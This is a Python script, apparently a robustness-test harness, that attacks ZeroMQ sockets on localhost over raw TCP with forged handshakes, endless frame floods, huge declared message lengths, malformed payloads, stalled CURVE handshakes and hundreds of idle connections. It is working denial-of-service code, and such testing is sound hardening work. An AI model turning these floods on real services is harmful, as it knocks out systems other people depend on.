"""Attacks a ZeroMQ socket over plain TCP sockets, with nothing but the standard library.

attack.py connect PORT SECONDS TYPE ATTACK   attacks a socket that listens, as a peer of the socket type TYPE
attack.py listen  SECONDS TYPE ATTACK        waits for sockets that connect, and attacks them; prints its port first,
                                             and begins each time that it is interrupted; of several attacks, with
                                             commas between, the connections get one after the other

Connections that are cut are made again until the time is over. Prints how much was sent over how many connections, of
who listens with the number of the time before it.
"""
import itertools
import os
import select
import signal
import socket
import struct
import sys
import threading
import time

MORE, LONG, COMMAND = 1, 2, 4
CHUNK = 1 << 20


def frame(body, flags=0):
    if len(body) > 255:
        return struct.pack(">BQ", flags | LONG, len(body)) + body
    return struct.pack(">BB", flags, len(body)) + body


def message(*frames):
    return b"".join(frame(f, MORE) for f in frames[:-1]) + frame(frames[-1])


def greeting(mechanism=b"NULL"):
    return b"\xff" + bytes(8) + b"\x7f\x03\x00" + mechanism.ljust(20, b"\0") + bytes(32)


def ready(kind, identity=b""):
    properties = b""
    for name, value in ((b"Socket-Type", kind.encode()), (b"Identity", identity)):
        properties += bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    return frame(b"\x05READY" + properties, COMMAND)


def filled(piece, size=CHUNK):
    return piece * max(1, size // len(piece))


def subscriptions():
    size = 64
    random = os.urandom(size * (CHUNK // size))
    return b"".join(frame(b"\x01" + random[i : i + size]) for i in range(0, len(random), size))


def event(topic, body):
    return message(topic, body, b"1795219200.123456")


JSON = b'{"schema":"samples.v9","source":"nobody","sequence":-1,"values":[[1,2,3],["a"],{}]}'
REQUEST = b'{"jsonrpc":"2.0","id":1,"method":"service.describe","params":{}}'

# What is sent after the handshake, without end. What is asked of a ROUTER has its empty frame first.
STREAMS = {
    "more": lambda: filled(frame(b"", MORE)),
    "long-more": lambda: filled(frame(bytes(200), MORE)),
    "pings": lambda: filled(frame(b"\x04PING\x00\x00", COMMAND)),
    "subscriptions": subscriptions,
    "messages": lambda: filled(message(b"\x05" + bytes(200))),
    "requests": lambda: filled(message(b"", REQUEST)),
    "garbage": lambda: filled(
        event(b"samples/x/y", JSON) + event(b"stream/x/y", JSON) + event(b"stream/x/y", b"{")
        + event(b"segment/x/y", JSON) + event(b"recording/x", JSON) + message(b"stream/") + event(b"stream/\xff", b"\xff")),
    "large-garbage": lambda: filled(
        event(b"stream/x/y", b'{"a":[' + b"1," * 500_000 + b"1]}")
        + event(b"recording/x/y", b'{"a":[' + b"1," * 500_000 + b"1]}"), 4 * CHUNK),
    "garbage-requests": lambda: filled(
        message(b"", b"{") + message(b"", b"[1,2]") + message(b"", b"\xff", b"\xfe") + message(b"x") + message(b"")),
    "large-requests": lambda: filled(message(b"", b'"' + b"x" * 1_000_000 + b'"'), 2 * CHUNK),
    "replies": lambda: filled(message(b"\0\0\0\0", b"", b'{"jsonrpc":"2.0","id":1,"result":{}}')),
    "large-replies": lambda: filled(message(b"\0\0\0\0", b"", b"x" * CHUNK), 2 * CHUNK),
}
# What is sent after the handshake, once; then bytes without meaning.
STARTS = {
    "declared": frame(b"")[:0] + struct.pack(">BQ", LONG, 1 << 62),
    "4-GiB": struct.pack(">BQ", LONG, 4 << 30),
    "30-MB": struct.pack(">BQ", LONG, 30 << 20),
    "topic": struct.pack(">BQ", LONG, 5_000_000) + b"\x01",
}
# What is sent in place of a handshake.
RAW = {
    "random": lambda: os.urandom(CHUNK),
    "zmtp1": lambda: b"\xff" + struct.pack(">Q", 1 << 40) + b"\0" + bytes(CHUNK),
    "http": lambda: b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
}


class Attack:
    def __init__(self, kind, name):
        self.kind, self.name = kind, name
        self.sent = self.connections = 0
        self.shakes = name not in RAW and name not in ("silent", "half")
        self.opening = greeting() + ready(kind, b"twin" if name == "identity" else b"") if self.shakes else b""
        self.first = b""
        self.endless = None
        if name in STREAMS:
            self.endless = STREAMS[name]()
        elif name in STARTS:
            self.first = STARTS[name]
            self.endless = bytes(CHUNK)
        elif name in RAW:
            self.opening = RAW[name]()
        elif name == "unread":
            self.first = message(b"\x01")
        elif name == "half":
            # A handshake of CURVE that does not go on.
            self.opening = greeting(b"CURVE")
        elif name == "wrong-type":
            self.opening = greeting() + ready("STREAM")
        elif name not in ("silent", "held", "identity"):
            sys.exit(f"there is no attack '{name}'")
        # How many connections are kept at once.
        self.width = {"silent": 300, "half": 300, "held": 600, "identity": 2, "unread": 4}.get(name, 3)
        self.reads = name not in ("unread", "requests")
        # Of each connection that still shakes hands: how many bytes came. Whatever comes before the other's READY
        # command would end it.
        self.shaking = {}

    def run(self, connections, until, renew):
        """Sends over connections; `renew` gives another for one that was cut."""
        pending = {}
        for c in connections:
            self.begin(c, pending)
        while time.monotonic() < until:
            writable = [c for c in pending if pending[c] is not None]
            readable = list(pending)
            try:
                r, w, _ = select.select(readable, writable, [], 0.02)
            except ValueError:
                return
            for c in r:
                if c not in self.shaking and not self.reads:
                    # An end is noticed, and nothing is read.
                    if self.ended(c):
                        self.drop(c, pending)
                    continue
                try:
                    data = c.recv(1 << 16)
                    if not data:
                        self.drop(c, pending)
                    elif c in self.shaking:
                        self.shaking[c] += len(data)
                        if self.shaking[c] > 64 + 25:
                            del self.shaking[c]
                            pending[c] = memoryview(self.first) if self.first else self.more()
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(c, pending)
            for c in w:
                if c not in pending:
                    continue
                try:
                    view = pending[c]
                    count = c.send(view)
                    self.sent += count
                    view = view[count:]
                    if not len(view):
                        view = None if c in self.shaking else self.more()
                    pending[c] = view
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(c, pending)
            if not self.reads and not w:
                time.sleep(0.01)
            if not pending and self.width == 1:
                return
            while len(pending) < self.width:
                c = renew()
                if c is None:
                    break
                self.begin(c, pending)

    def last(self, connection, until):
        """Attacks one connection, and ends it."""
        self.run([connection], until, lambda: None)
        connection.close()

    def more(self):
        return memoryview(self.endless) if self.endless else None

    @staticmethod
    def ended(c):
        try:
            return c.recv(1, socket.MSG_PEEK) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    def begin(self, c, pending):
        c.setblocking(False)
        self.connections += 1
        if self.shakes:
            self.shaking[c] = 0
        pending[c] = memoryview(self.opening) if self.opening else None

    def drop(self, c, pending):
        pending.pop(c, None)
        self.shaking.pop(c, None)
        c.close()


def main():
    mode = sys.argv[1]
    if mode == "connect":
        port, seconds, kind, name = int(sys.argv[2]), float(sys.argv[3]), sys.argv[4], sys.argv[5]
        attacks = [Attack(kind, name)]

        def renew():
            try:
                return socket.create_connection(("127.0.0.1", port), timeout=0.2)
            except OSError:
                return None

        attacks[0].run([], time.monotonic() + seconds, renew)
        print(summary(attacks))
        return
    seconds, kind, name = float(sys.argv[2]), sys.argv[3], sys.argv[4]
    listener = socket.create_server(("127.0.0.1", 0), backlog=64)
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])
    print(listener.getsockname()[1], flush=True)
    for time_number in itertools.count(1):
        signal.sigwait([signal.SIGINT])
        attacks = attack_askers(listener, kind, name.split(","), time.monotonic() + seconds)
        print(f"{time_number}: {summary(attacks)}", flush=True)


def attack_askers(listener, kind, names, until):
    """Attacks whoever connects, until the time is over."""
    attacks = []
    while time.monotonic() < until:
        listener.settimeout(max(0.01, until - time.monotonic()))
        try:
            connection = listener.accept()[0]
        except OSError:
            break
        attacks.append(Attack(kind, names[len(attacks) % len(names)]))
        attacks[-1].width = 1
        # The next one gets its turn.
        end = min(until, time.monotonic() + 0.6)
        threading.Thread(target=attacks[-1].last, args=(connection, end), daemon=True).start()
    return attacks


def summary(attacks):
    return f"sent {sum(a.sent for a in attacks)} bytes over {sum(a.connections for a in attacks)} connections"


if __name__ == "__main__":
    main()
